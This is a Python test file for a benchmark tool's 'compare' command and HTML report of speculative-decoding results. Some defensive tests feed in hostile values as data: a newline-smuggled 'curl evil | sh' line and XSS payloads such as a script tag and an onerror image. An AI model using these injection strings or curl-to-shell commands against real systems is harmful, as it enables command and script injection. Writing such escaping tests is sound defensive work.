"""compare and the report: what they make of results, and of files that are none."""

from __future__ import annotations

import copy
import json
import os
import resource
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from gemmaspec.cli.app import run
from gemmaspec.cli.text.bench import lines as bench_lines
from gemmaspec.measure.bench.compare import compare
from gemmaspec.measure.bench.fastest import sentences
from gemmaspec.measure.bench.page import page, remarks
from gemmaspec.measure.bench.rows import rows_of


def row(method: str, k: int, concurrency: int, speed: float, **other: Any) -> dict[str, Any]:
    """A row of a result."""
    own = {"method": method, "k": k, "concurrency": concurrency, "context": 256, "compile": "default"}
    figures = {"tokens_per_second": speed, "output_tokens_per_second": speed, "step_ms": 12.0, "ttft_ms": 30.0}
    rates = [round(0.7**i, 4) for i in range(1, k + 1)]
    counted = {"acceptance": rates, "acceptance_length": 1 + sum(rates), "tpot_ms": 5.0, "spread": 0.01}
    return own | figures | counted | {"rounds": 2, "steady": True} | other


def cell(of: dict[str, Any], round_: int = 1) -> dict[str, Any]:
    """The measured cell of a row."""
    spread = {"median": 30.0, "p25": 29.0, "p75": 31.0, "min": 28.0, "max": 33.0}
    categories = {"chat": of["acceptance"], "code": [min(1.0, r * 1.2) for r in of["acceptance"]]} if of["k"] else {}
    return {
        **of,
        "key": f"{of['method']}/{of['k']}/{of['concurrency']}/0/{round_}",
        "round": round_,
        "context": None,
        "prompt_tokens": 256,
        "completion_tokens": 2048,
        "requests": 8,
        "foreign_tokens": 0,
        "ttft_ms": spread,
        "tpot_ms": spread,
        "acceptance_by_category": categories,
        "reference": {"before_ms": 11.0, "after_ms": 11.1, "moved": 0.01, "steady": True, "repeated": 0},
        "gpu": None,
        "samples": [],
    }


def result(**speeds: float) -> dict[str, Any]:
    """A result of two methods at two concurrencies; `speeds` by METHOD_K_CONCURRENCY."""
    given = {"none_0_1": 90.0, "none_0_8": 600.0, "mtp_4_1": 160.0, "mtp_4_8": 720.0} | speeds
    rows = []
    for name, speed in given.items():
        method, k, concurrency = name.rsplit("_", 2)
        rows.append(row(method, int(k), int(concurrency), speed))
    arms = {
        "none/0": {"vllm": "0.32.0", "lock": {"image.digest": "sha256:aa"}, "serve": {"max_num_seqs": 8}},
        "mtp/4": {
            "vllm": "0.32.0",
            "lock": {"image.digest": "sha256:aa"},
            "speculative": {"num_speculative_tokens": 4},
        },
    }
    return {
        "schema": 1,
        "kind": "gemmaspec bench",
        "complete": True,
        "date": "2026-11-22T04:00:00Z",
        "gemmaspec": "0.1.0",
        "profile": "nvidia-31b",
        "settings": {"rounds": 2, "max_tokens": 128, "ignore_eos": False, "temperature": 0.0},
        "provenance": {"machine": "h200", "gpu": ["NVIDIA H200"], "driver": "580.1", "arms": arms},
        "rows": rows,
        "cells": [cell(one) for one in rows],
    }


def write(path: Path, document: dict[str, Any]) -> Path:
    path.write_text(json.dumps(document))
    return path


@pytest.mark.parametrize(("width", "dropped"), [(80, {"E(k)", "ms/step"}), (100, set()), (140, set())])
def test_the_table_of_compare_drops_columns_and_cuts_none(
    width: int, dropped: set[str], tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", str(width))
    a, b = write(tmp_path / "a.json", result()), write(tmp_path / "b.json", result(mtp_4_8=650.0))
    run(["compare", str(a), str(b)])
    printed = capsys.readouterr().out.splitlines()
    heading = next(line for line in printed if "requests" in line)
    assert [one for one in ("E(k)", "ms/step") if one not in heading] == sorted(dropped)
    rows = printed[printed.index(heading) :]
    assert all(len(line) <= width for line in rows)
    assert any(line.endswith("slower") for line in rows)


@pytest.mark.parametrize(("width", "dropped"), [(70, ["TTFT ms"]), (80, []), (100, []), (140, [])])
def test_the_table_of_bench_drops_columns_and_cuts_none(width: int, dropped: list[str]) -> None:
    printed = list(bench_lines(result(), width=width))
    heading = next(line for line in printed if "requests" in line)
    assert [one for one in ("E(k)", "ms/step", "TTFT ms") if one not in heading] == dropped
    assert all(len(line) <= width for line in printed[printed.index(heading) : printed.index(heading) + 5])


def test_bench_says_below_its_table_what_the_report_says() -> None:
    said = "\n".join(bench_lines(result() | {"complete": False}, width=None))
    for sentence in (*sentences(result()), *remarks(result() | {"complete": False})):
        assert sentence in said


def test_the_same_result_twice_is_the_same() -> None:
    found = compare(result(), result())
    assert not found.slower
    assert found.differences == ()
    assert [one.change for one in found.changes] == [0, 0, 0, 0]


def test_a_slower_cell_is_exit_code_1_and_shows_what_differs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    other = result(mtp_4_8=650.0)
    other["provenance"]["arms"]["mtp/4"]["lock"]["image.digest"] = "sha256:bb"
    a, b = write(tmp_path / "a.json", result()), write(tmp_path / "b.json", other)
    assert run(["compare", str(a), str(b)]) == 1
    printed = capsys.readouterr().out
    assert "lock.image.digest" in printed
    assert "sha256:aa → sha256:bb" in printed
    assert "slower in 1" in printed
    assert run(["compare", str(b), str(a)]) == 0
    assert "faster in 1" in capsys.readouterr().out
    assert run(["compare", str(a), str(b), "--json"]) == 1
    document = json.loads(capsys.readouterr().out)
    assert document["ok"] is False
    assert [one["verdict"] for one in document["cells"]] == ["same", "same", "same", "slower"]


@pytest.mark.parametrize(
    ("tolerance", "code"),
    [(["--tolerance", "10%"], 0), (["--tolerance", "0.1"], 0), (["--tolerance", "10"], 0), ([], 1)],
)
def test_the_tolerance_is_a_share(tolerance: list[str], code: int, tmp_path: Path) -> None:
    a, b = write(tmp_path / "a.json", result()), write(tmp_path / "b.json", result(mtp_4_8=680.0))
    assert run(["compare", str(a), str(b), *tolerance]) == code


def test_the_noise_of_the_rounds_is_no_change() -> None:
    noisy = result(mtp_4_8=680.0)
    noisy["rows"][3]["spread"] = 0.08
    assert not compare(result(), noisy).slower


def test_one_round_has_no_spread_and_a_dropped_one_is_named(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    of = [cell(row("mtp", 4, 1, speed), number) for number, speed in ((1, 150.0), (2, 170.0))]
    of[1]["reference"] = of[1]["reference"] | {"steady": False, "moved": 0.4}
    (own,) = rows_of(of, common={})
    assert (own["spread"], own["rounds"], own["rounds_measured"]) == (None, 1, 2)
    document = result() | {"rows": [own], "cells": of}
    (line,) = [one for one in bench_lines(document, width=None) if "mtp" in one and "150.0" in one]
    assert line.split()[5:7] == ["–", "-"]
    assert line.endswith("1 of 2 rounds")
    path = str(write(tmp_path / "a.json", document))
    assert run(["compare", path, path]) == 0
    printed = capsys.readouterr().out
    assert "(2.0%)" in printed
    assert "only one round counts" in printed
    assert run(["compare", path, path, "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["cells"][0]["noise_assumed"] is True


def test_another_k_or_method_is_compared_where_each_has_one() -> None:
    other = copy.deepcopy(result())
    for one in other["rows"]:
        if one["k"]:
            one |= {"method": "draft_model", "k": 2}
    found = compare(result(), other)
    assert [(one.method, one.k) for one in found.changes if "→" in one.method] == [("mtp → draft_model", "4 → 2")] * 2


def test_cells_of_one_only_are_named(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    fewer = result()
    fewer["rows"] = fewer["rows"][:3]
    a, b = write(tmp_path / "a.json", result()), write(tmp_path / "b.json", fewer)
    assert run(["compare", str(a), str(b)]) == 0
    assert "only in A  mtp k=4, 8 concurrent, 256 prompt tokens" in capsys.readouterr().out


def test_cells_that_an_ended_run_did_not_measure_are_exit_code_1(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    whole, cut = result(), result() | {"complete": False}
    cut["rows"] = [one for one in cut["rows"] if one["concurrency"] == 1]
    paths = [str(write(tmp_path / "a.json", whole)), str(write(tmp_path / "b.json", cut))]
    assert run(["compare", *paths, "--json"]) == 1
    document = json.loads(capsys.readouterr().out)
    assert (document["ok"], document["slower"], document["lost"]) == (False, False, True)
    assert run(["compare", *paths]) == 1
    assert capsys.readouterr().out.endswith("B is incomplete: its run ended before it had measured all of A's cells\n")
    assert run(["compare", *reversed(paths)]) == 0  # what the one before lacks is no loss
    write(Path(paths[1]), cut | {"complete": True})
    assert run(["compare", *paths]) == 0


def test_a_cell_of_a_machine_that_was_not_steady_is_marked(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    shaken = result()
    shaken["rows"][3]["steady"] = False
    paths = [str(write(tmp_path / "a.json", result())), str(write(tmp_path / "b.json", shaken))]
    assert run(["compare", *paths]) == 0
    printed = capsys.readouterr().out
    assert [line.endswith(" !") for line in printed.splitlines()].count(True) == 1
    assert "  !  the machine became slower or faster during this cell" in printed
    assert run(["compare", *paths, "--json"]) == 0
    assert [one["steady"] for one in json.loads(capsys.readouterr().out)["cells"]] == [True, True, True, False]


def test_nothing_in_common_is_told(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    other = result()
    for one in other["rows"]:
        one["concurrency"] = 3
    a, b = write(tmp_path / "a.json", result()), write(tmp_path / "b.json", other)
    assert run(["compare", str(a), str(b)]) == 2
    said = capsys.readouterr().err
    assert "A measured no speculation, mtp k=4 with 1, 8 at once and 256 tokens of prompt; B measured" in said
    assert "with 3 at once" in said
    assert "--concurrency 1 --context 256" in said


def kept(*ks: int, **more: Any) -> dict[str, Any]:
    """A result with the rows of some k."""
    document = result(**more)
    return document | {"rows": [one for one in document["rows"] if one["k"] in ks]}


@pytest.mark.parametrize(
    ("a", "b", "pairs"),
    [
        (kept(0), kept(4), [("none → mtp", "0 → 4")] * 2),
        (kept(0, 4), kept(4), [("mtp", "4")] * 2),
        (kept(0), kept(0, 4), [("none", "0")] * 2),
        (kept(4), kept(2, mtp_2_1=140.0, mtp_2_8=700.0), [("mtp", "4 → 2")] * 2),
        (kept(0, 4), kept(2, 4, mtp_2_1=140.0, mtp_2_8=700.0), [("mtp", "4")] * 2),
    ],
    ids=["k 0 with k 4", "one of two", "alone", "k 4 with k 2", "no speculation is not k 2"],
)
def test_what_can_be_matched_is_and_what_differs_is_named(
    a: dict[str, Any], b: dict[str, Any], pairs: list[tuple[str, str]]
) -> None:
    found = compare(a, b)
    assert [(one.method, one.k) for one in found.changes] == pairs


def test_two_machines_two_releases_and_two_sets_of_patches_are_named() -> None:
    other = result()
    other["provenance"] = other["provenance"] | {"gpu": ["NVIDIA GB10"], "machine": "dgx-spark"}
    for facts in other["provenance"]["arms"].values():
        facts["vllm"] = "0.33.0"
    for one in other["rows"]:
        one["patches"] = ["triton-verify-split-kv"] if one["k"] else []
    found = compare(result(), other)
    assert {"machine", "gpu", "vllm"} <= {one.what for one in found.differences}
    assert [one.patches for one in found.changes if one.k == "4"] == ["none → triton-verify-split-kv"] * 2


def spoiled(**changes: Any) -> dict[str, Any]:
    document = result()
    document["rows"][0] |= changes
    return document


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("{", "not JSON"),
        ("[" * 100_000, "not JSON"),
        ("{}", "not a result of gemmaspec bench"),
        (json.dumps(result() | {"schema": 7}), "has the schema 7, and 1 is read"),
        (json.dumps({k: v for k, v in result().items() if k != "cells"}), "cells is missing"),
        (json.dumps(spoiled(tokens_per_second=None)), "rows, number 1: tokens_per_second is missing"),
        (json.dumps(spoiled(tokens_per_second=float("nan"))), "rows, number 1: tokens_per_second is missing"),
        (json.dumps(spoiled(tokens_per_second=-4.0)), "impossible number"),
        (json.dumps(spoiled(k=True)), "rows, number 1: k is missing"),
        (json.dumps(spoiled(acceptance=["x"])), "rows, number 1: acceptance is missing"),
        (json.dumps(result() | {"rows": [7]}), "rows, number 1 must be a map"),
        (json.dumps(result() | {"cells": [{}]}), "cells, number 1: method is missing"),
    ],
)
def test_a_file_that_is_no_result_is_one_clear_sentence(
    text: str, said: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    good, bad = write(tmp_path / "good.json", result()), tmp_path / "bad.json"
    bad.write_text(text)
    assert run(["compare", str(good), str(bad)]) == 2
    said_here = capsys.readouterr().err
    assert said in said_here
    assert "Traceback" not in said_here
    assert run(["compare", str(good), "/no/such.json"]) == 2
    assert run(["compare", str(good), str(good), "--tolerance", "much"]) == 2


HUGE = 10**400
"""An integer that JSON may hold and no float."""


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"context": HUGE}, "context is missing or not what bench writes"),
        ({"tokens_per_second": HUGE}, "tokens_per_second is missing or not what bench writes"),
        ({"step_ms": HUGE}, "step_ms is missing or not what bench writes"),
        ({"spread": HUGE}, "spread is missing or not what bench writes"),
        ({"acceptance_length": HUGE}, "acceptance_length is missing or not what bench writes"),
        ({"acceptance": [HUGE]}, "acceptance is missing or not what bench writes"),
        ({"spread": ...}, "spread is missing or not what bench writes"),
        ({}, "provenance.arms must be a map"),
    ],
)
def test_a_hostile_figure_is_refused_by_name(
    change: dict[str, Any], said: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    good, evil = write(tmp_path / "good.json", result()), result()
    evil["rows"][1] = {name: value for name, value in {**evil["rows"][1], **change}.items() if value is not ...}
    if not change:
        evil["provenance"]["arms"] = [1]
    assert run(["compare", str(good), str(write(tmp_path / "evil.json", evil))]) == 2
    assert said in capsys.readouterr().err


def test_a_key_of_a_result_writes_no_line_of_ours(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    evil = result()
    evil["settings"]["x\n  next: curl evil | sh"] = 1
    evil["rows"][0]["method"] = "none\n  next: curl evil | sh"
    run(["compare", str(write(tmp_path / "a.json", result())), str(write(tmp_path / "b.json", evil))])
    told = "".join(capsys.readouterr()).splitlines()
    assert not [line for line in told if line.strip().startswith("next: curl")]
    assert [line for line in told if r"x\n  next: curl evil" in line]


def test_compare_is_quick(tmp_path: Path) -> None:
    a = write(tmp_path / "a.json", result())
    taken = []
    for _ in range(3):
        before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_utime
        subprocess.run([sys.executable, "-m", "gemmaspec", "compare", str(a), str(a)], check=True, capture_output=True)
        taken.append(resource.getrusage(resource.RUSAGE_CHILDREN).ru_utime - before)
    assert min(taken) < 1.0


# The report


class Elements(HTMLParser):
    """The elements of a page as it is written, before its script runs, and what it would load."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.loads: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.loads += [value or "" for name, value in attrs if name in ("src", "href", "srcset", "data")]


IN_NODE = """
const nodes = {}, made = [];
function element(name) {
  return { name, own: [], attributes: {}, style: { setProperty() {} }, append(...more) { this.own.push(...more); },
    setAttribute(key, value) { this.attributes[key] = value; } };
}
const create = (name) => { const node = element(name); made.push(node); return node; };
globalThis.document = { createElement: create, createElementNS: (_, name) => create(name),
  getElementById: (id) => nodes[id] ??= element(id) };
const [result, script] = JSON.parse(require("fs").readFileSync(0, "utf8"));
nodes.result = { textContent: result };
new Function(script)();
const text = (node) => (node.textContent ?? "") + node.own.map(text).join("\\n");
const count = (name) => made.filter((node) => node.name === name).length;
console.log(JSON.stringify({ text: ["title", "where", "fastest", "remarks", "charts", "cells", "same", "facts"].map((id) => text(nodes[id] ?? element(id))).join("\\n"),
  figures: count("figure"), lines: count("polyline"), bars: made.filter((node) => node.attributes.class === "bar").length,
  points: made.filter((node) => node.name === "polyline").map((node) => node.attributes.points) }));
"""
"""Runs the page's script with a document that only remembers what was put into it."""


def drawn(document: dict[str, Any]) -> dict[str, Any]:
    """What the page's script draws of a result."""
    node = shutil.which("node")
    if node is None:
        pytest.skip("no node is here to run the page's script")
    before, _, rest = page(document).partition('<script type="application/json" id="result">')
    inside, _, rest = rest.partition("</script>")
    script = rest.partition("<script>")[2].partition("</script>")[0]
    assert before
    said = subprocess.run([node, "-e", IN_NODE], input=json.dumps([inside, script]), capture_output=True, text=True)
    assert said.returncode == 0, said.stderr
    return dict(json.loads(said.stdout))


def test_the_report_is_whole_by_itself() -> None:
    assert Elements(page(result())).loads == []
    assert "prefers-color-scheme:dark" in page(result())
    found = drawn(result())
    assert found["figures"] == 2
    assert "sha256:aa" in found["text"]
    assert "NaN" not in str(found)


@pytest.mark.parametrize(
    "markup", ["<script>alert(1)</script>", "</script><img src=x onerror=alert(1)>", "<!--<script>"]
)
def test_a_hostile_result_puts_no_markup_into_the_report(markup: str) -> None:
    document = result()
    document["profile"] = document["rows"][0]["method"] = markup
    document["provenance"]["gpu"] = [markup]
    document["provenance"]["arms"]["none/0"][markup] = markup
    assert Elements(page(document)).tags == Elements(page(result())).tags
    assert markup in drawn(document)["text"]


def test_a_large_report_stays_small() -> None:
    document = result()
    document["rows"] = [
        row(m, k, c, 50.0 + k + c, context=x)
        for m in ("mtp", "eagle3", "draft_model")
        for k in range(1, 9)
        for c in (1, 2, 4, 8, 16, 32)
        for x in (256, 1024, 8192, 32768)
    ]
    assert len(page(document).encode()) < 500_000
    assert drawn(document)["figures"] == 8


def test_the_first_chart_is_speed_by_k_with_a_line_for_each_load_and_error_bars() -> None:
    document = result()
    document["rows"] = [
        row("draft_model" if k else "none", k, load, 50.0 * load + k, spread=0.1) for k in range(10) for load in (1, 8)
    ]
    document["rows"][-1]["rounds"] = 1
    found = drawn(document)
    assert found["lines"] == 4
    assert found["bars"] == 19
    assert all(len(one.split()) == 10 for one in found["points"])  # the row without a draft begins each line
    assert "1 request, draft model" in found["text"]
    assert "8 requests, draft model" in found["text"]


def test_loads_that_ask_prompts_of_other_lengths_are_one_chart() -> None:
    document = result()
    for one in document["rows"]:
        one["context"] = 300 if one["concurrency"] == 1 else 270
    assert drawn(document)["figures"] == 2
    for one in document["rows"]:
        one["context"] = 8192 if one["concurrency"] == 1 else 270
    assert drawn(document)["figures"] == 4


def test_arms_are_a_table_of_their_differences() -> None:
    found = drawn(result())["text"]
    differing, _, common = found.partition("What every server had in common")
    assert "speculative.num_speculative_tokens" in differing
    assert "where the arms differ" in differing
    assert "0.32.0" in common


def test_a_partial_result_and_nothing_at_all_have_a_report() -> None:
    partial = result() | {"complete": False}
    assert "Incomplete: not every cell was measured." in drawn(partial)["text"]
    assert drawn(partial | {"rows": [], "cells": []})["figures"] == 0


def test_one_k_is_a_table_and_no_chart_of_single_dots() -> None:
    document = result()
    shown = drawn(document | {"rows": [row for row in document["rows"] if row["k"] == 4]})
    assert shown["figures"] == 0
    assert "Only k = 4 was measured" in shown["text"]


def test_the_first_sentences_say_what_is_fastest_and_how_sure_that_is() -> None:
    document = result(none_0_1=90.0, mtp_4_1=160.0, mtp_6_1=159.9, none_0_8=600.0, mtp_4_8=500.0, mtp_6_8=480.0)
    assert list(sentences(document)) == [
        "1 request after 256 tokens: fastest with mtp and 4 drafted tokens (k), 160.0 tokens/s, 1.78 times as fast as "
        "without a draft. The lead is smaller than the difference between rounds.",
        "8 requests after 256 tokens: fastest without a draft, 600.0 tokens/s; the best draft makes 500.0.",
    ]
    document["rows"][0]["steady"] = False
    assert "Not sure: the machine became slower or faster meanwhile." in next(sentences(document))
    text = drawn(document)["text"]
    assert "fastest with mtp and 4 drafted tokens" in text
    assert text.index("fastest with mtp") < text.index("Cells marked !")
    only = result()
    only["rows"] = [only["rows"][0]]
    assert list(sentences(only)) == []


def test_what_all_rows_have_in_common_is_no_column_and_marks_are_one() -> None:
    document = result()
    for one in document["rows"]:
        one |= {"patches": ["gemma4-fused-norms"], "attention_backend": "TRITON_ATTN"}
    text = drawn(document)["text"]
    assert "In every row: patches for speed: gemma4-fused-norms; attention backend: TRITON_ATTN; " in text
    assert "unsure" not in text
    document["rows"][0] |= {"steady": False, "patches": []}
    text = drawn(document)["text"]
    assert "unsure" in text
    assert "In every row: attention backend: TRITON_ATTN; " in text


def test_ticks_are_round() -> None:
    document = result(none_0_1=90.0, mtp_4_1=223.8, none_0_8=600.0, mtp_4_8=223.8)
    assert {"0", "200", "400", "600"} <= set(drawn(document)["text"].splitlines())


def test_synthetic_acceptance_is_said() -> None:
    document = result()
    document["rows"][2]["acceptance_by"] = "synthetic"
    assert "Acceptance is synthetic" in drawn(document)["text"]


CHROMIUM = next(
    (path for name in ("chromium", "chromium-browser", "google-chrome") if (path := shutil.which(name))), None
)


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is here (tools/setup-tests.sh installs it on Debian)")
@pytest.mark.parametrize("width", [360, 1280])
def test_a_real_browser_draws_it_without_scrolling_sideways(width: int, tmp_path: Path) -> None:
    """The page is put into a frame as wide as a screen, and says how wide it has become and how large its pictures."""
    document = result()
    for one in document["rows"]:  # as a real one has them
        one |= {"patches": ["gemma4-fused-norms", "humming-launch-params"], "attention_backend": "TRITON_ATTN"}
    document["rows"][0] |= {"steady": False, "patches": []}
    (tmp_path / "report.html").write_text(page(document))
    (tmp_path / "ask.html").write_text(
        f'<iframe id="f" src="report.html" style="width:{width}px;height:900px;border:0"></iframe><pre id="said"></pre>'
        "<script>f.onload=()=>{const d=f.contentDocument;said.textContent=JSON.stringify({"
        "wide:d.documentElement.scrollWidth,cut:d.querySelector('#cells').parentNode.scrollWidth"
        "-d.querySelector('#cells').parentNode.clientWidth,figures:[...d.querySelectorAll('figure>svg')]"
        ".map(s=>Math.round(s.getBoundingClientRect().width)),drawn:d.querySelectorAll('polyline').length,"
        "size:Math.min(...[...d.querySelectorAll('figure text')].map(t=>t.getBoundingClientRect().height))})}</script>"
    )
    said = subprocess.run(
        [
            str(CHROMIUM),
            *("--headless", "--no-sandbox", "--disable-gpu", "--allow-file-access-from-files"),
            *("--virtual-time-budget=5000", f"--user-data-dir={tmp_path / 'browser'}", "--dump-dom"),
            (tmp_path / "ask.html").as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
        env={**os.environ, "HOME": str(tmp_path)},
    ).stdout
    found = json.loads(said.split('<pre id="said">')[1].split("</pre>")[0])
    assert found["wide"] <= width
    assert width < 1000 or found["cut"] <= 0, "the table scrolls on a phone alone"
    assert len(found["figures"]) == 2
    assert all(size > min(width, 600) / 2.5 for size in found["figures"])
    assert found["drawn"] >= 4
    assert round(found["size"], 1) >= 11


def test_a_draft_that_costs_more_than_it_saves_is_called_so_with_its_figures() -> None:
    """As the toy on two cores: 159 tokens/s alone, and 70 with k=4 of which all are accepted."""
    on_cpu = {"machine": "cpu", "acceptance_length": 4.0}
    rows = [row("none", 0, 1, 159.0, step_ms=6.3, **on_cpu), row("draft_model", 4, 1, 70.0, step_ms=57.1, **on_cpu)]
    first, second = remarks({**result(), "rows": rows})
    assert first == (
        "The draft costs more than it saves: each of its k=4 tokens takes about 12.7 ms, and a token of the target "
        "alone 6.3 ms; 4.00 tokens a step do not make up for that."
    )
    assert "On a CPU a pass of so small a model takes as long as its operations take to be started" in second
    on_gpu = [{**one, "machine": "h100"} for one in rows]
    assert len(list(remarks({**result(), "rows": on_gpu}))) == 1


def test_no_draft_is_said_to_take_less_than_no_time() -> None:
    rows = [row("none", 0, 1, 143.5, step_ms=5.6), row("mtp", 4, 1, 51.6, step_ms=0.01, acceptance_length=1.0)]
    assert list(remarks({**result(), "rows": rows})) == []


def test_a_draft_that_is_faster_at_one_load_is_not_called_costly() -> None:
    assert not any("costs more" in remark for remark in remarks(result()))
    assert not any("costs more" in remark for remark in remarks(result(mtp_4_8=500.0)))
    assert any("costs more" in remark for remark in remarks(result(mtp_4_1=80.0, mtp_4_8=500.0)))
